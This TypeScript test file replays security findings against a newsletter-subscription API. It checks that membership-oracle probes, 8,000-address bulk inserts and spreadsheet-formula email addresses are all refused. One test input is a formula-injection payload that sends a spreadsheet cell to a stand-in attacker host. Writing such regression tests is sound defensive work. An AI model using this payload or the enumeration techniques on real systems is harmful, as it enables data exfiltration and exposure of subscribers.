// The attacks of issue 19, replayed over HTTP against the stack as the role that tried each one:
// every one is now refused, or answered so that it learns nothing, and nothing is stored.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { LOCAL_PUBLISHABLE_KEY } from "../../../supabase/local/core/keys";
import { startTestStack, type TestStack } from "./test-stack";

let env: TestStack;
beforeAll(async () => {
  env = await startTestStack();
});
afterAll(async () => {
  await env?.stop();
});

/** A request as a browser would send it, with the publishable key and, if given, a session. */
function rest(path: string, init: { body?: unknown; headers?: Record<string, string> } = {}) {
  return fetch(`${env.url}/rest/v1/${path}`, {
    method: "POST",
    headers: {
      apikey: LOCAL_PUBLISHABLE_KEY,
      Authorization: `Bearer ${LOCAL_PUBLISHABLE_KEY}`,
      "Content-Type": "application/json",
      ...init.headers,
    },
    body: JSON.stringify(init.body),
  });
}

async function subscribers(): Promise<{ email: string; source_path: string }[]> {
  const { rows } = await env.db.query<{ email: string; source_path: string }>(
    "select email, source_path from public.newsletter_subscribers order by email",
  );
  return rows;
}

/** What a client can observe of an answer: status, body and headers (but the clock's). */
async function observable(response: Response) {
  const headers = Object.fromEntries(
    [...response.headers].filter(([name]) => !["date", "keep-alive"].includes(name)),
  );
  return { status: response.status, body: await response.text(), headers };
}

describe("finding 1: the newsletter list is no membership oracle", () => {
  it("anon: a new, a known and a differently cased address get one and the same answer, count=exact included", async () => {
    const before = await subscribers();
    const signUp = (email: string) =>
      rest("rpc/subscribe_to_newsletter", {
        body: { email, source_path: "/" },
        headers: { Prefer: "count=exact" },
      }).then(observable);
    const answers = [
      await signUp("oracle@example.com"),
      await signUp("oracle@example.com"),
      await signUp("ORACLE@Example.com"),
    ];
    expect(answers[0]).toMatchObject({ status: 204, body: "" });
    expect(answers).toEqual([answers[0], answers[0], answers[0]]);
    expect(await subscribers()).toEqual(
      [...before, { email: "oracle@example.com", source_path: "/" }].sort((a, b) =>
        a.email.localeCompare(b.email),
      ),
    );
  });

  it("anon: the insert that answered */0 or */1 is refused, and stores nothing", async () => {
    const before = await subscribers();
    const response = await rest("newsletter_subscribers", {
      body: { email: "someone@example.com", source_path: "/" },
      headers: { Prefer: "count=exact" },
    });
    expect(response.status).toBe(401);
    expect(response.headers.get("content-range")).toBeNull();
    expect(await response.json()).toMatchObject({ code: "42501" });
    expect(await subscribers()).toEqual(before);
  });

  it("visitor: return=representation no longer tells a subscribed address (201 []) from another (403)", async () => {
    const token = await env.accessToken("visitor");
    const before = await subscribers();
    const statuses = [];
    for (const email of ["oracle@example.com", "stranger@example.com"]) {
      const response = await rest("newsletter_subscribers", {
        body: { email, source_path: "/" },
        headers: { Authorization: `Bearer ${token}`, Prefer: "return=representation" },
      });
      statuses.push([response.status, ((await response.json()) as { code: string }).code]);
    }
    expect(statuses).toEqual([
      [403, "42501"],
      [403, "42501"],
    ]);
    expect(await subscribers()).toEqual(before);
  });
});

describe("finding 2: one request cannot subscribe thousands of addresses or take their locks", () => {
  const addresses = Array.from({ length: 8000 }, (_, index) => ({
    email: `bulk-${index}@example.com`,
    source_path: "/",
  }));

  it("anon: an array of 8,000 addresses is refused by the table and by the RPC; nothing is stored", async () => {
    const before = await subscribers();
    const table = await rest("newsletter_subscribers", { body: addresses });
    expect(table.status).toBe(401);
    expect(await table.json()).toMatchObject({ code: "42501" });
    const rpc = await rest("rpc/subscribe_to_newsletter", { body: addresses });
    expect(rpc.status).toBe(400);
    expect(await subscribers()).toEqual(before);
  });
});

describe("finding 3: no address that a spreadsheet would run reaches the list", () => {
  it("anon: subscribing =HYPERLINK(...) is refused with the CHECK's 400, and nothing is stored", async () => {
    const before = await subscribers();
    for (const email of ['=HYPERLINK("https://evil.example/?"&A3,"x@y.z")', "+1@example.com"]) {
      const response = await rest("rpc/subscribe_to_newsletter", {
        body: { email, source_path: "/" },
      });
      expect(response.status).toBe(400);
      expect(await response.json()).toMatchObject({ code: "23514" });
    }
    expect(await subscribers()).toEqual(before);
  });
});
